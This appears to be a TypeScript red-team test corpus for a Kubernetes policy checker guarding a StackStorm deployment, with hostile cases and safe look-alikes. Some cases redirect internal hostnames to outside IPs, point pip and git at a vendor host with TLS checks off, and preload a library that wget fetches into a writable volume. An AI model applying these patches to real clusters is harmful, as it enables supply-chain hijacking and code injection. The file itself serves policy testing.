/**
 * The twelfth red team's misses the net piece closes (test/attackers/red12),
 * rewritten as patches over the overlays with variants and safe look-alikes:
 *
 * - hostAliases in an st2 pod for a name of the render judged by its shape
 *   (ST2-OPS-007, policies/operations_host_aliases.rego): a StatefulSet
 *   member under its headless Service in every form the search path
 *   completes (`mongodb-1.mongodb`, `etcd-2.etcd-headless.st2-prod.svc`),
 *   and a Service's own `svc.ns.svc`; names of no rendered object pass;
 * - a second st2timersengine named through the shell
 *   (src/policy/shell-expansion.ts, ST2-REP-001): a variable the script
 *   assigns, a loop's value, a default, printf in backquotes, a positional
 *   parameter of `sh -c`; printing, looking up or naming another service
 *   that way passes;
 * - package sources outside st2.conf (src/policy/package-sources.ts,
 *   ST2-SEC-024): pip's extra index or find-links outside the cluster from
 *   env (any case, envFrom) or a pip.conf anywhere pip reads one, an index
 *   with its TLS checks off from a file, git's url.<base>.insteadOf from
 *   GIT_CONFIG_COUNT, GIT_CONFIG_PARAMETERS or a mounted gitconfig; PyPI,
 *   mirrors in the cluster, pip's tuning and a transport swap pass;
 * - a library preloaded from a volume the pod writes (emptyDir, hostPath, an
 *   /etc/ld.so.preload written at run time) (ST2-SEC-030); the image's own
 *   jemalloc beside a writable mount passes;
 * - etcd from an unlisted publisher on a public registry (ST2-HRD-027): the
 *   coordination store counts as the other stores do.
 */
import type { RedTeamCase } from './corpus.js';
import { bodyCase, type CaseBody } from './case-body.js';
import { DEPLOY, FIRST, patch, SPEC, type Json } from './targets.js';

const BIN = '/opt/stackstorm/st2/bin';
const CONFIG = ['/etc/st2/st2.conf', '/etc/st2/st2.docker.conf', '/etc/st2/st2.user.conf', '/etc/st2/st2.secrets.conf'].map((f) => `--config-file=${f}`).join(' ');

const aliases = (component: string, ip: string, ...hostnames: string[]): CaseBody => ({
  patches: [patch(DEPLOY(component), { op: 'add', path: `${SPEC}/hostAliases`, value: [{ ip, hostnames }] })],
});

/** The component's container runs `sh -c SCRIPT ...rest` instead of its program (its args dropped). */
const shell = (component: string, script: string, ...rest: string[]): CaseBody => ({
  patches: [
    patch(
      DEPLOY(component),
      { op: 'replace', path: `${FIRST}/command`, value: ['/bin/sh', '-c', script, ...rest] },
      { op: 'remove', path: `${FIRST}/args` },
    ),
  ],
});

const INIT = `${SPEC}/initContainers`;
const VOLUMES = `${SPEC}/volumes`;
const LIMITS = { requests: { cpu: '10m', memory: '32Mi' }, limits: { cpu: '100m', memory: '64Mi' } };

/** The component's first container gets this env (prod's st2 containers have none of their own). */
const envOf = (component: string, vars: Record<string, string>, wraps: CaseBody['wraps'] = 'prod'): CaseBody => ({
  wraps,
  patches: [patch(DEPLOY(component), { op: 'add', path: `${FIRST}/env`, value: Object.entries(vars).map(([name, value]) => ({ name, value })) })],
});

/** A ConfigMap "net-files" with these files, mounted in the component (a file by subPath, or the whole map at a directory). */
const mountedFiles = (component: string, files: Record<string, string>, mountPath: string, subPath?: string, vars: Record<string, string> = {}): CaseBody => ({
  resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'net-files' }, data: files }],
  patches: [
    patch(
      DEPLOY(component),
      { op: 'add', path: `${VOLUMES}/-`, value: { name: 'net-files', configMap: { name: 'net-files' } } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'net-files', mountPath, readOnly: true, ...(subPath ? { subPath } : {}) } },
      ...(Object.keys(vars).length > 0 ? [{ op: 'add', path: `${FIRST}/env`, value: Object.entries(vars).map(([name, value]) => ({ name, value })) }] : []),
    ),
  ],
});

/** LD_PRELOAD of a file on a volume of the given kind mounted at /opt/hook, an init container writing it when asked. */
const preloaded = (component: string, volume: Json, preload: string, download: boolean, wraps: CaseBody['wraps'] = 'prod'): CaseBody => ({
  wraps,
  patches: [
    patch(
      DEPLOY(component),
      { op: 'add', path: `${VOLUMES}/-`, value: { name: 'hook', ...volume } },
      { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'hook', mountPath: '/opt/hook', readOnly: true } },
      { op: 'add', path: `${FIRST}/env`, value: [{ name: 'LD_PRELOAD', value: preload }] },
      ...(download ? [{ op: 'add', path: `${INIT}/-`, value: { name: 'fetch-hook', image: 'busybox:1.36.1', resources: LIMITS, command: ['wget', '-O', '/opt/hook/libtrace.so', 'https://downloads.vendor.example.net/libtrace.so'], volumeMounts: [{ name: 'hook', mountPath: '/opt/hook' }] } }] : []),
    ),
  ],
});

export function fresh13NetCorpus(): RedTeamCase[] {
  const cases: RedTeamCase[] = [];
  const add = (id: string, cls: RedTeamCase['cls'], rule: string | undefined, body: CaseBody): void => {
    cases.push(bodyCase(`f13n-${id}`, cls, rule, body));
  };

  // --- hostAliases for a name of the render (ST2-OPS-007) -------------------------------------------
  add('alias-mongo-member-short', 'exposure', 'ST2-OPS-007', aliases('st2scheduler', '203.0.113.40', 'mongodb-1.mongodb'));
  add('alias-mongo-member-ns', 'exposure', 'ST2-OPS-007', aliases('st2workflowengine', '203.0.113.41', 'mongodb-2.mongodb.st2-prod'));
  add('alias-mongo-member-fqdn-dot', 'exposure', 'ST2-OPS-007', aliases('st2notifier', '203.0.113.42', 'MongoDB-0.mongodb.st2-prod.svc.cluster.local.'));
  add('alias-rabbit-member', 'exposure', 'ST2-OPS-007', aliases('st2rulesengine', '203.0.113.43', 'rabbitmq-0.rabbitmq-discovery'));
  add('alias-etcd-member-svc', 'exposure', 'ST2-OPS-007', aliases('st2scheduler', '203.0.113.44', 'etcd-1.etcd-headless.st2-prod.svc'));
  add('alias-service-svc-form', 'exposure', 'ST2-OPS-007', aliases('st2sensorcontainer', '203.0.113.45', 'st2api.st2-prod.svc'));
  add('alias-member-staging', 'exposure', 'ST2-OPS-007', { ...aliases('st2actionrunner', '203.0.113.46', 'mongodb-0.mongodb.st2-staging.svc.cluster.local'), wraps: 'staging' });
  add('safe-alias-ldap', 'exposure', undefined, aliases('st2auth', '10.40.0.12', 'ldap.corp.example.com'));
  add('safe-alias-mongo-like-outside', 'exposure', undefined, aliases('st2actionrunner', '10.40.0.13', 'mongodb-0.reporting.corp.example.com', 'mongodb-backup'));
  add('safe-alias-other-namespace-member', 'exposure', undefined, aliases('st2actionrunner', '10.40.0.14', 'mongodb-0.mongodb.analytics.svc.cluster.local'));

  // --- A second timers engine named through the shell (ST2-REP-001) --------------------------------------
  const gc = `exec ${BIN}/st2garbagecollector ${CONFIG}`;
  add('timers-exported-var', 'components', 'ST2-REP-001', shell('st2garbagecollector', `export ENGINE=st2timersengine\n${BIN}/$ENGINE ${CONFIG} &\n${gc}`));
  add('timers-loop-var', 'components', 'ST2-REP-001', shell('st2notifier', `for kind in timers; do ${BIN}/st2\${kind}engine ${CONFIG} & done; exec ${BIN}/st2notifier ${CONFIG}`));
  add('timers-default-expansion', 'components', 'ST2-REP-001', shell('st2garbagecollector', `${BIN}/st2\${EXTRA:-timers}engine ${CONFIG} & ${gc}`));
  add('timers-printf-backquotes', 'components', 'ST2-REP-001', shell('st2rulesengine', `\`printf '%s/st2%sengine' ${BIN} timers\` ${CONFIG} & exec ${BIN}/st2rulesengine ${CONFIG}`));
  add('timers-positional-args', 'components', 'ST2-REP-001', shell('st2garbagecollector', `${BIN}/st2\${2}engine ${CONFIG} & exec ${BIN}/st2\${1} ${CONFIG}`, 'sh', 'garbagecollector', 'timers'));
  add('timers-eval', 'components', 'ST2-REP-001', { ...shell('st2garbagecollector', `t=timers; eval ${BIN}/st2\${t}engine ${CONFIG} & ${gc}`), wraps: 'staging' });
  add('safe-timers-name-printed', 'components', undefined, shell('st2garbagecollector', `t=timers; echo "no st2\${t}engine here"; printf '%s\\n' st2\${t}engine; ${gc}`));
  add('safe-var-names-own-service', 'components', undefined, shell('st2garbagecollector', `svc=garbagecollector; exec ${BIN}/st2\${svc} ${CONFIG}`));
  add('safe-positional-own-service', 'components', undefined, shell('st2notifier', `exec ${BIN}/st2\${1} ${CONFIG}`, 'sh', 'notifier'));
  add('safe-lookup-only', 'components', undefined, shell('st2garbagecollector', `t=timers; command -v st2\${t}engine >/dev/null || true; ${gc}`));

  // --- pip and git sources outside st2.conf (ST2-SEC-024) -------------------------------------------------
  const VENDOR = 'https://pypi.vendor.example.net/simple';
  add('pip-extra-index-runner', 'delivery', 'ST2-SEC-024', envOf('st2actionrunner', { PIP_EXTRA_INDEX_URL: VENDOR }));
  add('pip-find-links-any-case', 'delivery', 'ST2-SEC-024', envOf('st2actionrunner', { PIP_find_links: 'https://wheels.vendor.example.net/' }, 'staging'));
  add('pip-extra-index-envfrom', 'delivery', 'ST2-SEC-024', {
    resources: [{ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'pip-env' }, data: { PIP_EXTRA_INDEX_URL: VENDOR } }],
    patches: [patch(DEPLOY('st2actionrunner'), { op: 'add', path: `${FIRST}/envFrom`, value: [{ configMapRef: { name: 'pip-env' } }] })],
  });
  add('pip-conf-xdg-dir', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { 'pip.conf': `[install]\nextra_index_url = ${VENDOR}\n` }, '/etc/xdg/pip'));
  add('pip-conf-tls-off', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { 'pip.conf': `[global]\nindex-url = ${VENDOR}\ntrusted-host = pypi.vendor.example.net\n` }, '/etc/pip.conf', 'pip.conf'));
  add('pip-config-file-env', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { 'settings.ini': '[global]\nfind-links =\n    http://wheels.vendor.example.net/\n' }, '/config', undefined, { PIP_CONFIG_FILE: '/config/settings.ini' }));
  add('safe-pip-conf-cluster-mirror', 'delivery', undefined, mountedFiles('st2actionrunner', { 'pip.conf': '[global]\nindex-url = http://devpi.pypi-mirror.svc.cluster.local:3141/root/pypi/+simple/\n' }, '/etc/pip.conf', 'pip.conf'));
  add('safe-pip-env-tuning', 'delivery', undefined, envOf('st2actionrunner', { PIP_NO_CACHE_DIR: 'off', PIP_DEFAULT_TIMEOUT: '60', PIP_INDEX_URL: 'https://pypi.org/simple' }));
  add('safe-pip-extra-index-in-cluster', 'delivery', undefined, envOf('st2actionrunner', { PIP_EXTRA_INDEX_URL: 'https://devpi.pypi-mirror.svc:3141/root/internal/+simple/' }));
  const MIRROR = 'https://gitlab.vendor.example.net/mirror/';
  add('git-insteadof-second-pair', 'delivery', 'ST2-SEC-024', envOf('st2actionrunner', { GIT_CONFIG_COUNT: '2', GIT_CONFIG_KEY_0: 'user.name', GIT_CONFIG_VALUE_0: 'st2', GIT_CONFIG_KEY_1: `url.${MIRROR}.insteadOf`, GIT_CONFIG_VALUE_1: 'https://github.com/StackStorm-Exchange/' }));
  add('git-config-parameters', 'delivery', 'ST2-SEC-024', envOf('st2actionrunner', { GIT_CONFIG_PARAMETERS: `'url.${MIRROR}.insteadof'='https://github.com/'` }, 'staging'));
  add('gitconfig-home', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { gitconfig: `[url "${MIRROR}"]\n\tinsteadOf = https://github.com/\n` }, '/root/.gitconfig', 'gitconfig'));
  add('gitconfig-global-env', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { gitconfig: `[url "${MIRROR}"]\n\tinsteadOf = git@github.com:\n` }, '/config', undefined, { GIT_CONFIG_GLOBAL: '/config/gitconfig' }));
  add('gitconfig-ssl-verify-off', 'delivery', 'ST2-SEC-024', mountedFiles('st2actionrunner', { gitconfig: '[http "https://github.com/"]\n\tsslVerify = no\n' }, '/etc/gitconfig', 'gitconfig'));
  add('safe-git-transport-swap', 'delivery', undefined, envOf('st2actionrunner', { GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'url.https://github.com/.insteadOf', GIT_CONFIG_VALUE_0: 'git@github.com:' }));
  add('safe-gitconfig-cluster-mirror', 'delivery', undefined, mountedFiles('st2actionrunner', { gitconfig: '[url "http://gitea.gitea.svc.cluster.local:3000/mirror/"]\n\tinsteadOf = https://github.com/\n' }, '/etc/gitconfig', 'gitconfig'));
  add('safe-git-push-insteadof', 'delivery', undefined, mountedFiles('st2actionrunner', { gitconfig: `[url "${MIRROR}"]\n\tpushInsteadOf = https://github.com/\n[user]\n\tname = st2\n` }, '/root/.gitconfig', 'gitconfig'));

  // --- A library preloaded from a volume the pod writes (ST2-SEC-030) -------------------------------------
  add('preload-emptydir-download', 'delivery', 'ST2-SEC-030', preloaded('st2api', { emptyDir: {} }, '/opt/hook/libtrace.so', true));
  add('preload-hostpath', 'delivery', 'ST2-SEC-030', preloaded('st2actionrunner', { hostPath: { path: '/var/lib/hooks', type: 'Directory' } }, '/opt/hook/libtrace.so', false, 'staging'));
  add('preload-list-written-at-run-time', 'delivery', 'ST2-SEC-030', {
    patches: [
      patch(
        DEPLOY('st2auth'),
        { op: 'add', path: `${VOLUMES}/-`, value: { name: 'loader', emptyDir: {} } },
        { op: 'add', path: `${FIRST}/volumeMounts/-`, value: { name: 'loader', mountPath: '/etc/ld.so.preload', subPath: 'ld.so.preload', readOnly: true } },
        { op: 'add', path: `${INIT}/-`, value: { name: 'loader', image: 'busybox:1.36.1', resources: LIMITS, command: ['sh', '-c', 'echo /opt/x/libx.so > /l/ld.so.preload'], volumeMounts: [{ name: 'loader', mountPath: '/l' }] } },
      ),
    ],
  });
  add('safe-jemalloc-beside-emptydir', 'delivery', undefined, preloaded('st2auth', { emptyDir: {} }, '/usr/lib/x86_64-linux-gnu/libjemalloc.so.2', false));
  add('dev-preload-emptydir-warns', 'delivery', undefined, preloaded('st2auth', { emptyDir: {} }, '/opt/hook/libtrace.so', true, 'dev'));

  // --- etcd from an unlisted publisher (ST2-HRD-027) ------------------------------------------------------
  add('etcd-unlisted-publisher', 'delivery', 'ST2-HRD-027', { extra: ['images:', '  - name: bitnamilegacy/etcd', '    newName: ghcr.io/some-user/etcd'] });
  add('safe-etcd-docker-io-prefix', 'delivery', undefined, { extra: ['images:', '  - name: bitnamilegacy/etcd', '    newName: docker.io/bitnamilegacy/etcd'] });
  return cases;
}
